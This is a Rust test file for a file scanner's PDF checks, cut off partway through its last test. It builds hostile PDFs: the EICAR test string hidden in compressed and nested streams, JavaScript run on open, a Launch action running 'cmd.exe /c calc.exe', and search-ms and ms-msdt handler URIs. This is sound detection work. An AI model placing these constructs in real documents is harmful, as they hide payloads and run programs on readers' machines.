//! PDF documents: EICAR in every place a PDF can hide it (compressed
//! streams, filter chains, embedded files, object streams, incremental
//! updates), the actions a reader runs (JavaScript on open, Launch, links,
//! forms), documents encrypted for an empty password or for one the scan
//! has a candidate for (qpdf writes them),
//! malformed structure, and clean controls.

use crate::pdf_writer::{Pdf, hex, one_page, text_content, zlib};
use crate::util::*;
use xferscan::Verdict;

fn finding_targets(r: &xferscan::Report, key: &str) -> Vec<String> {
    r.findings_with_key(key)
        .map(|f| f.kind.describe())
        .collect()
}

#[test]
fn eicar_in_a_flate_stream_is_found() {
    let pdf = one_page("", &eicar()).xref("/Root 1 0 R").bytes();
    let r = scan("doc.pdf", eicar_free(&pdf));
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert_eq!(deepest(&r).0.name(), "<pdf object 4 0>");
}

/// The bytes themselves must not hold EICAR (it is compressed), or the
/// tests prove nothing: this returns them as they are after checking.
fn eicar_free(pdf: &[u8]) -> Vec<u8> {
    let e = eicar();
    assert!(!pdf.windows(e.len()).any(|w| w == e.as_slice()));
    pdf.to_vec()
}

#[test]
fn eicar_behind_junk_before_the_header() {
    let mut p = Pdf::with_prefix(&[b'#'; 600]);
    p.obj(1, "<</Type /Catalog>>")
        .stream(2, "/Filter /FlateDecode", &zlib(&eicar()))
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", eicar_free(&p.bytes()));
    assert!(found_eicar(&r), "{:?}", keys(&r));
}

#[test]
fn eicar_in_a_named_embedded_file() {
    let mut p = one_page(
        "/Names <</EmbeddedFiles <</Names [(a) 5 0 R]>>>>",
        &text_content("see attachment"),
    );
    p.obj(
        5,
        "<</Type /Filespec /F (old.txt) /UF <FEFF00650069006300610072002E0063006F006D> /EF <</F 6 0 R>>>>",
    )
    .stream(6, "/Type /EmbeddedFile /Filter /FlateDecode", &zlib(&eicar()))
    .xref("/Root 1 0 R");
    let r = scan("doc.pdf", eicar_free(&p.bytes()));
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert_eq!(deepest(&r).0.name(), "eicar.com");
    let t = finding_targets(&r, "document.pdf.embedded_file");
    assert!(t.iter().any(|t| t.contains("eicar.com")), "{t:?}");
    // The name is the sender's and is judged: a double extension blocks.
    let mut p = one_page("", &text_content("x"));
    p.obj(
        5,
        "<</Type /Filespec /F (invoice.pdf.exe) /EF <</F 6 0 R>>>>",
    )
    .stream(6, "/Type /EmbeddedFile", b"plain bytes")
    .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    assert!(has_key(&r, "name.double_extension"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

/// Any value may be indirect: qpdf, pypdf, pdf.js and MuPDF read a
/// stream's `/Filter` and `/DecodeParms`, and a file specification's `/EF`,
/// through references.
#[test]
fn filters_and_embedded_files_behind_references() {
    // The filter, its array and an element of it; the parameters too.
    let predicted = {
        // PNG predictor "None" on rows of 4: a tag byte before each row.
        let mut rows = Vec::new();
        for chunk in eicar().chunks(4) {
            rows.push(0u8);
            rows.extend(chunk);
            rows.resize(rows.len() + 4 - chunk.len(), b' ');
        }
        zlib(&rows)
    };
    let cases: [(&str, &str, Vec<u8>); 5] = [
        ("/Filter 7 0 R", "/FlateDecode", zlib(&eicar())),
        (
            "/Filter 7 0 R",
            "[/ASCIIHexDecode /FlateDecode]",
            hex(&zlib(&eicar())),
        ),
        (
            "/Filter [/ASCIIHexDecode 7 0 R]",
            "/FlateDecode",
            hex(&zlib(&eicar())),
        ),
        (
            "/Filter /FlateDecode /DecodeParms 7 0 R",
            "<</Predictor 10 /Columns 4>>",
            predicted.clone(),
        ),
        (
            "/Filter [/FlateDecode] /DecodeParms [7 0 R]",
            "<</Predictor 10 /Columns 4>>",
            predicted,
        ),
    ];
    for (dict, target, data) in cases {
        let mut p = one_page(
            "/Names <</EmbeddedFiles <</Names [(a) 5 0 R]>>>>",
            &text_content("x"),
        );
        // `/EF` indirect, and the stream without `/Type /EmbeddedFile`.
        p.obj(5, "<</Type /Filespec /F (notes.txt) /EF 8 0 R>>")
            .obj(8, "<</F 6 0 R>>")
            .stream(6, dict, &data)
            .obj(7, target)
            .xref("/Root 1 0 R");
        let r = scan("doc.pdf", eicar_free(&p.bytes()));
        assert!(found_eicar(&r), "{dict} -> {target}: {:?}", keys(&r));
        assert_eq!(deepest(&r).0.name(), "notes.txt", "{dict}");
        assert!(has_key(&r, "document.pdf.embedded_file"), "{:?}", keys(&r));
    }
    // Control: harmless text behind an indirect filter.
    let mut p = one_page("", &text_content("x"));
    p.stream(6, "/Filter 7 0 R", &zlib(b"just some text"))
        .obj(7, "/FlateDecode")
        .xref("/Root 1 0 R");
    assert_clean(&scan("doc.pdf", p.bytes()));
}

#[test]
fn eicar_behind_a_chain_of_filters() {
    let mut p = Pdf::new();
    p.obj(1, "<</Type /Catalog>>")
        .stream(
            2,
            "/Filter [/ASCIIHexDecode /FlateDecode]",
            &hex(&zlib(&eicar())),
        )
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", eicar_free(&p.bytes()));
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert!(!has_key(&r, "unscannable.malformed"), "{:?}", keys(&r));
}

#[test]
fn objects_in_an_object_stream_are_read() {
    // Object 5 (a string) and 6 (an open action running JavaScript) are
    // packed in object stream 7, with EICAR after them.
    let o5 = "(hello)";
    let o6 = "<</S /JavaScript /JS (app.alert\\(1\\))>>";
    let header = format!("5 0 6 {} ", o5.len() + 1);
    let mut body = format!("{header}{o5} {o6}\n").into_bytes();
    body.extend_from_slice(&eicar());
    let mut p = one_page("/OpenAction 6 0 R", &text_content("hello"));
    p.stream(
        7,
        &format!(
            "/Type /ObjStm /N 2 /First {} /Filter /FlateDecode",
            header.len()
        ),
        &zlib(&body),
    )
    .xref("/Root 1 0 R");
    let r = scan("doc.pdf", eicar_free(&p.bytes()));
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert!(
        has_key(&r, "document.pdf.javascript_on_open"),
        "{:?}",
        keys(&r)
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}

/// Object streams as qpdf and MuPDF read them, where this reader used
/// not to: `/First` given by reference, no `/Type /ObjStm`, and a filter
/// given twice (the last wins to them).
#[test]
fn object_streams_read_as_qpdf_and_mupdf_read_them() {
    let o5 = "(hello)";
    let o6 = "<</S /JavaScript /JS (app.alert\\(1\\))>>";
    let header = format!("5 0 6 {} ", o5.len() + 1);
    let body = format!("{header}{o5} {o6}\n").into_bytes();
    let first = header.len();
    for (dict, data) in [
        (
            "/Type /ObjStm /N 2 /First 9 0 R /Filter /FlateDecode".to_owned(),
            zlib(&body),
        ),
        (
            format!("/N 2 /First {first} /Filter /FlateDecode"),
            zlib(&body),
        ),
        (
            format!(
                "/Type /ObjStm /N 2 /First {first} /Filter /ASCIIHexDecode /Filter /FlateDecode"
            ),
            zlib(&body),
        ),
    ] {
        let mut p = one_page("/OpenAction 6 0 R", &text_content("hello"));
        p.stream(7, &dict, &data)
            .obj(9, &first.to_string())
            .xref("/Root 1 0 R");
        let r = scan("doc.pdf", p.bytes());
        assert!(
            has_key(&r, "document.pdf.javascript_on_open"),
            "{dict}: {:?}",
            keys(&r)
        );
    }
}

#[test]
fn eicar_only_in_an_incremental_update() {
    let mut p = one_page("", &text_content("version one"));
    p.xref("/Root 1 0 R");
    let clean = p.bytes();
    assert_clean(&scan("doc.pdf", clean));
    p.stream(4, "/Filter /FlateDecode", &zlib(&eicar()))
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", eicar_free(&p.bytes()));
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert!(!has_key(&r, "unscannable.malformed"), "{:?}", keys(&r));
}

#[test]
fn javascript_on_open_is_blocked_escaped_names_too() {
    for (open, s, js) in [
        ("/OpenAction", "/JavaScript", "/JS"),
        ("/Open#41ction", "/J#61vaScript", "/J#53"),
    ] {
        let mut p = one_page(&format!("{open} 5 0 R"), &text_content("hi"));
        p.obj(
            5,
            &format!("<</Type /Action /S {s} {js} (this.exportDataObject\\({{cName: 'x'}}\\))>>"),
        )
        .xref("/Root 1 0 R");
        let r = scan("doc.pdf", p.bytes());
        assert!(
            has_key(&r, "document.pdf.javascript_on_open"),
            "{open}: {:?}",
            keys(&r)
        );
        assert_eq!(r.verdict, Verdict::Malicious);
        let t = finding_targets(&r, "document.pdf.javascript_on_open");
        assert!(t[0].contains("exportDataObject"), "{t:?}");
        // The script is a child of its own, for the script rules.
        assert!(
            r.objects
                .iter()
                .any(|o| o.path.name().starts_with("<pdf javascript"))
        );
    }
    // A script in a stream, run by a page's open action, in hex.
    let mut p = one_page("", &text_content("hi"));
    p.obj(
        5,
        "<</Type /Page /Parent 2 0 R /AA <</O <</S /JavaScript /JS 6 0 R>>>>>>",
    )
    .stream(
        6,
        "/Filter /ASCIIHexDecode",
        &hex(b"app.launchURL('http://x.test')"),
    )
    .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    let t = finding_targets(&r, "document.pdf.javascript_on_open");
    assert!(t.iter().any(|t| t.contains("launchURL")), "{:?}", keys(&r));
    // Document-level scripts (the JavaScript name tree) run on open too.
    let mut p = one_page("/Names 5 0 R", &text_content("hi"));
    p.obj(5, "<</JavaScript 6 0 R>>")
        .obj(6, "<</Names [(init) 7 0 R]>>")
        .obj(7, "<</S /JavaScript /JS <6170702e616c65727428322900>>>")
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    assert!(
        has_key(&r, "document.pdf.javascript_on_open"),
        "{:?}",
        keys(&r)
    );
}

#[test]
fn javascript_of_a_link_is_flagged_not_blocked() {
    let mut p = one_page("", &text_content("click"));
    p.obj(
        5,
        "<</Type /Annot /Subtype /Link /Rect [0 0 10 10] /A <</S /JavaScript /JS (app.alert\\(1\\))>>>>",
    )
    .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    assert!(has_key(&r, "document.pdf.javascript"), "{:?}", keys(&r));
    assert!(!has_key(&r, "document.pdf.javascript_on_open"));
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn a_launch_action_is_blocked_with_its_target() {
    let mut p = one_page("/OpenAction 5 0 R", &text_content("hi"));
    p.obj(5, "<</S /Launch /Win <</F (cmd.exe) /P (/c calc.exe)>>>>")
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    assert_eq!(r.verdict, Verdict::Malicious);
    let t = finding_targets(&r, "document.pdf.launch");
    assert!(
        t.iter()
            .any(|t| t.contains("cmd.exe") && t.contains("calc.exe")),
        "{t:?}"
    );
    // A file specification by reference.
    let mut p = one_page("", &text_content("hi"));
    p.obj(5, "<</Type /Annot /A <</S /Launch /F 6 0 R>>>>")
        .obj(6, "<</Type /Filespec /F (payload.exe)>>")
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    let t = finding_targets(&r, "document.pdf.launch");
    assert!(t.iter().any(|t| t.contains("payload.exe")), "{t:?}");
}

/// An object header written inside a string (`/Lang (9 0 obj)`) is no
/// object to qpdf or MuPDF: the catalog goes on past it, and so does its
/// open action. So does a keyword given as a value (`/X xref`).
#[test]
fn an_object_goes_on_past_what_only_looks_like_the_next() {
    for catalog in [
        "<</Type /Catalog /Pages 2 0 R /Lang (9 0 obj) /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>>",
        "<</Type /Catalog /Pages 2 0 R /X xref /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>>",
        "<</Type /Catalog /Pages 2 0 R /X trailer /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>>",
        "<</Type /Catalog /Pages 2 0 R /X endobj /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>>",
    ] {
        let mut p = Pdf::new();
        p.obj(1, catalog)
            .obj(2, "<</Type /Pages /Kids [3 0 R] /Count 1>>")
            .obj(3, "<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]>>")
            .xref("/Root 1 0 R");
        let r = scan("doc.pdf", p.bytes());
        assert!(
            has_key(&r, "document.pdf.javascript_on_open"),
            "{catalog}: {:?}",
            keys(&r)
        );
    }
}

/// An action whose `/S` is a reference to its type's name: MuPDF and
/// qpdf follow it, and run the launch.
#[test]
fn an_action_type_given_by_reference_is_followed() {
    let mut p = one_page("/OpenAction 5 0 R", &text_content("hi"));
    p.obj(5, "<</S 6 0 R /Win <</F (cmd.exe) /P (/c calc.exe)>>>>")
        .obj(6, "/Launch")
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    assert!(has_key(&r, "document.pdf.launch"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
    // A reference to another name is no launch.
    let mut p = one_page("/OpenAction 5 0 R", &text_content("hi"));
    p.obj(5, "<</S 6 0 R /D [3 0 R /Fit]>>")
        .obj(6, "/GoTo")
        .xref("/Root 1 0 R");
    assert_clean(&scan("doc.pdf", p.bytes()));
}

/// An embedded file whose file specification is packed in an object
/// stream (as qpdf and Acrobat write them) is named by it, and the name
/// is checked.
#[test]
fn an_embedded_file_named_from_an_object_stream() {
    let o5 = "<</Type /Filespec /F (run.com) /UF (run.com) /EF <</F 8 0 R>>>>";
    let o6 = "<</EmbeddedFiles <</Names [(run.com) 5 0 R]>>>>";
    let header = format!("5 0 6 {} ", o5.len() + 1);
    let body = format!("{header}{o5} {o6}\n").into_bytes();
    let mut p = one_page("/Names 6 0 R", &text_content("hello"));
    p.stream(8, "/Type /EmbeddedFile", b"plain text, nothing more\n")
        .stream(
            7,
            &format!(
                "/Type /ObjStm /N 2 /First {} /Filter /FlateDecode",
                header.len()
            ),
            &zlib(&body),
        )
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    assert!(
        r.objects.iter().any(|o| o.path.name() == "run.com"),
        "{:?}",
        r.objects.iter().map(|o| o.path.name()).collect::<Vec<_>>()
    );
    assert!(has_key(&r, "name.blocked_extension"), "{:?}", keys(&r));
}

/// Thousands of streams whose `/Length` names one object number that
/// thousands of objects define: each stream is read, and the number's
/// value is looked up once, not once per stream (this once took minutes).
#[test]
fn a_length_named_by_many_streams_and_defined_many_times() {
    let mut p = one_page("", &text_content("hi"));
    for i in 0..4000u32 {
        p.obj(100 + i, "null");
        p.obj_bytes(10_000 + i, b"<</Length 100 0 R>>\nstream\nabc\nendstream");
    }
    let mut data = p.xref("/Root 1 0 R").bytes();
    data.extend_from_slice(b"\n");
    for _ in 0..4000 {
        data.extend_from_slice(b"100 0 obj null endobj\n");
    }
    let r = scan("doc.pdf", data);
    assert!(!has_key(&r, "limit.time"), "{:?}", keys(&r));
}

#[test]
fn links_are_recorded_and_forms_submitting_are_flagged() {
    let mut p = one_page("", &text_content("link"));
    p.obj(
        5,
        "<</Type /Annot /Subtype /Link /A <</S /URI /URI (https://example.com/a)>>>>",
    )
    .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    let t = finding_targets(&r, "document.pdf.uri");
    assert!(
        t.iter().any(|t| t.contains("https://example.com/a")),
        "{t:?}"
    );
    assert_clean(&r);
    let mut p = one_page("", &text_content("form"));
    p.obj(
        5,
        "<</Type /Annot /Subtype /Widget /A <</S /SubmitForm /F <</FS /URL /F (https://collect.test/)>>>>>>",
    )
    .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    let t = finding_targets(&r, "document.pdf.submit_form");
    assert!(t.iter().any(|t| t.contains("collect.test")), "{t:?}");
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn an_unsupported_filter_is_a_finding() {
    let mut p = one_page("", &text_content("x"));
    p.stream(5, "/Filter /Crypt /DecodeParms <</Name /StdCF>>", b"opaque")
        .stream(6, "/Filter /NoSuchDecode", b"opaque")
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    assert_eq!(
        r.findings_with_key("unscannable.unsupported_method")
            .count(),
        2,
        "{:?}",
        keys(&r)
    );
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn a_truncated_stream_keeps_what_it_decoded() {
    let mut content = eicar();
    content.extend((0..20_000u32).map(|i| (i * 7919 % 251) as u8));
    let z = zlib(&content);
    let cut = &z[..z.len() / 2];
    let mut p = Pdf::new();
    p.obj(1, "<</Type /Catalog>>")
        .stream(2, "/Filter /FlateDecode", cut)
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", eicar_free(&p.bytes()));
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert!(has_key(&r, "unscannable.malformed"), "{:?}", keys(&r));
    // The whole file cut in the middle of a stream.
    let mut p = Pdf::new();
    p.obj(1, "<</Type /Catalog>>")
        .stream(2, "/Filter /FlateDecode", &z);
    let mut b = p.bytes();
    b.truncate(b.len() - z.len() / 2);
    let r = scan("doc.pdf", b);
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert!(has_key(&r, "unscannable.malformed"), "{:?}", keys(&r));
}

#[test]
fn xref_entries_past_the_end_are_malformed() {
    let mut p = one_page("", &text_content("x"));
    p.xref("/Root 1 0 R");
    let mut bytes = p.bytes();
    // Object 1's entry is the first after the free entry.
    let at = find(&bytes, b" 00000 n") - 10;
    bytes[at..at + 10].copy_from_slice(b"0999999999");
    let r = scan("doc.pdf", bytes);
    let t = finding_targets(&r, "unscannable.malformed");
    assert!(t.iter().any(|t| t.contains("past the end")), "{t:?}");
    // startxref past the end too.
    let mut bytes = p.bytes();
    let s = find(&bytes, b"startxref\n") + 10;
    bytes.splice(s..s, b"9".iter().copied());
    let r = scan("doc.pdf", bytes);
    assert!(has_key(&r, "unscannable.malformed"), "{:?}", keys(&r));
}

fn find(hay: &[u8], needle: &[u8]) -> usize {
    hay.windows(needle.len()).position(|w| w == needle).unwrap()
}

#[test]
fn reference_loops_end() {
    let mut p = one_page("/OpenAction 5 0 R", &text_content("loop"));
    p.obj(5, "<</S /GoTo /D [3 0 R /Fit] /Next 6 0 R>>")
        .obj(6, "<</S /GoTo /Next [5 0 R 6 0 R 7 0 R]>>")
        .obj(7, "<</S /JavaScript /JS 8 0 R /Next 5 0 R>>")
        // A script whose /Length points at itself, in a loop of /Length.
        .obj(8, "<</Length 9 0 R>>\nstream\napp.alert(8)\nendstream")
        .obj(9, "9 0 R")
        .obj(10, "<</Type /Pages /Kids [10 0 R 2 0 R]>>")
        .xref("/Root 1 0 R");
    let r = scan("doc.pdf", p.bytes());
    let t = finding_targets(&r, "document.pdf.javascript_on_open");
    assert!(
        t.iter().any(|t| t.contains("app.alert(8)")),
        "{:?}",
        keys(&r)
    );
}

#[test]
fn an_encrypted_pdf_is_never_clean() {
    let mut p = one_page("", b"encrypted bytes, not deflate");
    p.obj(5, "<</Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4>>")
        .xref("/Root 1 0 R /Encrypt 5 0 R /ID [<01><01>]");
    let r = scan("doc.pdf", p.bytes());
    assert!(has_key(&r, "encrypted"), "{:?}", keys(&r));
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn clean_documents_stay_clean() {
    // Plain text.
    let mut p = one_page("/Info 5 0 R", &text_content("Minutes of the meeting"));
    p.obj(5, "<</Title (Minutes) /Producer (a writer)>>")
        .xref("/Root 1 0 R");
    assert_clean(&scan("minutes.pdf", p.bytes()));
    // A form: fields, a format script on a field (not on open), no JS on
    // open. Scripts are flagged, so this form has none.
    let mut p = one_page(
        "/AcroForm <</Fields [5 0 R] /NeedAppearances true>>",
        &text_content("Name:"),
    );
    p.obj(
        5,
        "<</FT /Tx /T (name) /V (Alice) /Type /Annot /Subtype /Widget /Rect [100 700 300 720] /P 3 0 R>>",
    )
    .xref("/Root 1 0 R");
    assert_clean(&scan("form.pdf", p.bytes()));
    // A picture: a JPEG stream is handed on as it is.
    let mut jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00".to_vec();
    jpeg.extend((0..2000u32).map(|i| (i * 31 % 253) as u8));
    jpeg.extend_from_slice(b"\xff\xd9");
    let mut p = one_page("", b"q 100 0 0 100 0 0 cm /Im1 Do Q");
    p.stream(
        5,
        "/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
        &jpeg,
    )
    .xref("/Root 1 0 R");
    let r = scan("photo.pdf", p.bytes());
    assert_clean(&r);
    assert!(
        r.objects
            .iter()
            .any(|o| o.path.name() == "<pdf object 5 0>")
    );
}

#[test]
fn hostile_structure_is_read_in_bounded_time() {
    let start = std::time::Instant::now();
    // Objects that each open a string and never close it, objects hidden
    // behind a letter that only the xref points at, streams that never end.
    let mut b = b"%PDF-1.7\n".to_vec();
    let mut xref = String::from("xref\n");
    for i in 0..20_000u32 {
        let at = b.len() + 1;
        b.extend_from_slice(format!("x{} 0 obj (", i + 1).as_bytes());
        xref.push_str(&format!("{} 1\n{at:010} 00000 n \n", i + 1));
        b.extend_from_slice(b"1 0 obj <</Length 5 0 R>> stream\n");
    }
    let at = b.len();
    b.extend_from_slice(xref.as_bytes());
    b.extend_from_slice(format!("trailer <</Size 20001>>\nstartxref\n{at}\n%%EOF\n").as_bytes());
    let r = scan("doc.pdf", b);
    assert!(
        start.elapsed() < std::time::Duration::from_secs(60),
        "{:?}",
        start.elapsed()
    );
    assert_ne!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
}

/// Mutations of the fuzz seeds (bytes flipped, cut, spliced, repeated)
/// through the whole scan: no panic, and each ends in bounded time. A
/// cheap companion of the `unpack_pdf` fuzz target; `PDF_MUTATIONS` sets
/// how many to run.
#[test]
fn mutated_pdfs_never_panic() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/fuzz/seeds/unpack_pdf");
    let seeds: Vec<Vec<u8>> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| std::fs::read(e.unwrap().path()).unwrap())
        .collect();
    assert!(!seeds.is_empty());
    let n: u64 = std::env::var("PDF_MUTATIONS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(200);
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    let mut rnd = |m: usize| {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        (x % m.max(1) as u64) as usize
    };
    for i in 0..n {
        let mut d = seeds[rnd(seeds.len())].clone();
        for _ in 0..1 + rnd(4) {
            let len = d.len();
            if len == 0 {
                break;
            }
            match rnd(5) {
                0 => {
                    let at = rnd(len);
                    d[at] ^= 1 << rnd(8);
                }
                1 => d.truncate(rnd(len)),
                2 => {
                    let other = &seeds[rnd(seeds.len())];
                    let at = rnd(other.len());
                    let piece = other[at..(at + rnd(200)).min(other.len())].to_vec();
                    let to = rnd(len);
                    d.splice(to..to, piece);
                }
                3 => {
                    let at = rnd(len);
                    let piece = d[at..(at + rnd(64)).min(len)].to_vec();
                    for _ in 0..rnd(50) {
                        d.extend_from_slice(&piece);
                    }
                }
                _ => {
                    let at = rnd(len);
                    d.insert(at, b"()<>[]/%0 Rnobjstreamendxref#\\"[rnd(30)]);
                }
            }
        }
        let start = std::time::Instant::now();
        let r = scan("m.pdf", d);
        assert!(start.elapsed().as_secs() < 20, "mutation {i}");
        let _ = r.verdict;
    }
}

/// An open action (or a link) to a handler that opens a share or starts a
/// program: the reader hands it to Windows, which asks once at most.
#[test]
fn a_uri_to_a_program_handler_is_blocked() {
    for uri in [
        "search-ms:query=invoice&crumb=location:\\\\\\\\203.0.113.7@SSL\\\\DavWWWRoot",
        "ms-msdt:/id PCWDiagnostic /skip force",
    ] {
        let mut p = one_page("/OpenAction 5 0 R", &text_content("hello"));
        p.obj(5, &format!("<</S /URI /URI ({uri})>>"))
            .xref("/Root 1 0 R");
        let r = scan("invoice.pdf", p.bytes());
        assert!(
            has_key(&r, "document.external_link.handler"),
            "{uri}: {:?}",
            keys(&r)
        );
        assert_eq!(r.verdict, Verdict::Malicious);
    }
}

/// `qpdf --encrypt USER OWNER BITS [--use-aes=y] -- in out`: the tool's own
/// standard security handler, at each revision it writes.
fn qpdf_encrypt(pdf: &[u8], user: &str, args: &[&str]) -> Option<Vec<u8>> {
    let qpdf = tool("qpdf")?;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("in.pdf"), pdf).unwrap();
    let mut all = vec!["--allow-weak-crypto", "--encrypt", user, "owner-secret"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--", "in.pdf", "out.pdf"]);
    run_tool(dir.path(), &qpdf, &all);
    Some(std::fs::read(dir.path().join("out.pdf")).unwrap())
}

/// The encryptions qpdf writes: RC4 40 (R2), RC4 128 (R3), AES-128 (R4),
/// AES-256 (R6).
const ENCRYPTIONS: [&[&str]; 4] = [&["40"], &["128"], &["128", "--use-aes=y"], &["256"]];

/// Most encrypted PDFs open without a password (the owner password only
/// restricts printing and copying): they are decrypted and read like any
/// other, their JavaScript and embedded files included, and an ordinary
/// one is clean.
#[test]
fn pdfs_encrypted_for_an_empty_password_are_read() {
    let mut p = one_page(
        "/Names <</EmbeddedFiles <</Names [(a) 5 0 R]>>>> /OpenAction 7 0 R",
        &text_content("see attachment"),
    );
    p.obj(5, "<</Type /Filespec /F (report.txt) /EF <</F 6 0 R>>>>")
        .stream(
            6,
            "/Type /EmbeddedFile /Filter /FlateDecode",
            &zlib(&eicar()),
        )
        .obj(7, "<</S /JavaScript /JS (app.alert\\('opened'\\);)>>")
        .xref("/Root 1 0 R");
    let plain = eicar_free(&p.bytes());
    let clean = {
        let mut p = one_page("", &text_content("Quarterly report"));
        p.xref("/Root 1 0 R");
        p.bytes()
    };
    for args in ENCRYPTIONS {
        let Some(enc) = qpdf_encrypt(&plain, "", args) else {
            return;
        };
        let r = scan("statement.pdf", enc);
        assert!(found_eicar(&r), "{args:?}: {:?}", keys(&r));
        assert!(
            has_key(&r, "document.pdf.javascript_on_open"),
            "{args:?}: {:?}",
            keys(&r)
        );
        assert!(!has_key(&r, "encrypted"), "{args:?}: {:?}", keys(&r));
        let r = scan("statement.pdf", qpdf_encrypt(&clean, "", args).unwrap());
        assert_clean(&r);
        // A blank page, as pikepdf writes one: its content stream empty,
        // which AES makes an IV and a block of padding.
        let mut blank = Pdf::new();
        blank
            .obj(1, "<</Type /Catalog /Pages 2 0 R>>")
            .obj(2, "<</Type /Pages /Kids [3 0 R] /Count 1>>")
            .obj(
                3,
                "<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R>>",
            )
            .stream(4, "/Filter /FlateDecode", b"")
            .xref("/Root 1 0 R");
        let enc = qpdf_encrypt(&blank.bytes(), "", args).unwrap();
        assert_clean(&scan("blank.pdf", enc));
    }
}

/// A PDF that needs a password cannot be read: it is said, never clean.
#[test]
fn a_pdf_with_a_user_password_is_encrypted() {
    let mut p = one_page("", &text_content("secret"));
    p.xref("/Root 1 0 R");
    for args in ENCRYPTIONS {
        let Some(enc) = qpdf_encrypt(&p.bytes(), "letmein", args) else {
            return;
        };
        let r = scan("secret.pdf", enc);
        assert!(has_key(&r, "encrypted"), "{args:?}: {:?}", keys(&r));
        assert_ne!(r.verdict, Verdict::Clean);
    }
}

/// A PDF with a user password that a candidate opens (given by the host,
/// or named in the mail that carries it) is read like any other, and
/// still reported encrypted; without the candidate it stays encrypted.
#[test]
fn a_pdf_a_candidate_password_opens_is_read() {
    let mut p = one_page(
        "/Names <</EmbeddedFiles <</Names [(a) 5 0 R]>>>>",
        &text_content("statement"),
    );
    p.obj(5, "<</Type /Filespec /F (report.txt) /EF <</F 6 0 R>>>>")
        .stream(
            6,
            "/Type /EmbeddedFile /Filter /FlateDecode",
            &zlib(&eicar()),
        )
        .xref("/Root 1 0 R");
    let plain = eicar_free(&p.bytes());
    let opts = xferscan::ScanOptions::new().password("Zahl-8812");
    for args in ENCRYPTIONS {
        let Some(enc) = qpdf_encrypt(&plain, "Zahl-8812", args) else {
            return;
        };
        let r = engine().scan_bytes_with("statement.pdf", enc.clone(), &opts);
        assert!(found_eicar(&r), "{args:?}: {:?}", keys(&r));
        assert_eq!(
            encrypted(&r),
            [(encrypted(&r)[0].0.clone(), true)],
            "{args:?}"
        );
        let r = scan("statement.pdf", enc.clone());
        assert!(!found_eicar(&r), "{args:?}");
        assert_eq!(encrypted(&r).len(), 1, "{args:?}");
        assert!(!encrypted(&r)[0].1, "{args:?}");
        // The mail that carries it names the password.
        let m = message(&[
            (
                "Content-Type: text/plain",
                b"Ihr Kontoauszug. Das Passwort lautet Zahl-8812.",
            ),
            (
                "Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\
                 Content-Disposition: attachment; filename=\"auszug.pdf\"",
                &b64(&enc),
            ),
        ]);
        let r = scan("mail.eml", m);
        assert!(found_eicar(&r), "{args:?}: {:?}", keys(&r));
    }
}

/// An object stream whose header gives a hundred thousand numbers the
/// same offset, at an object of 100 KB: read once, not once per number.
#[test]
fn numbers_that_share_an_offset_in_an_object_stream_are_read_once() {
    let o6 = format!(
        "<</S /JavaScript /JS (app.alert\\(1\\)) /Pad [{}]>>",
        "0 ".repeat(50_000)
    );
    let header: String = (6..100_006).map(|n| format!("{n} 0 ")).collect();
    let body = format!("{header}{o6}\n").into_bytes();
    let mut p = one_page("/OpenAction 6 0 R", &text_content("hello"));
    p.stream(
        7,
        &format!(
            "/Type /ObjStm /N 100000 /First {} /Filter /FlateDecode",
            header.len()
        ),
        &zlib(&body),
    )
    .xref("/Root 1 0 R");
    let engine = xferscan::Engine::builder()
        .limits(xferscan::Limits {
            max_time: std::time::Duration::from_secs(20),
            ..Default::default()
        })
        .build()
        .unwrap();
    let r = engine.scan_bytes("doc.pdf", p.bytes());
    assert!(
        has_key(&r, "document.pdf.javascript_on_open"),
        "{:?}",
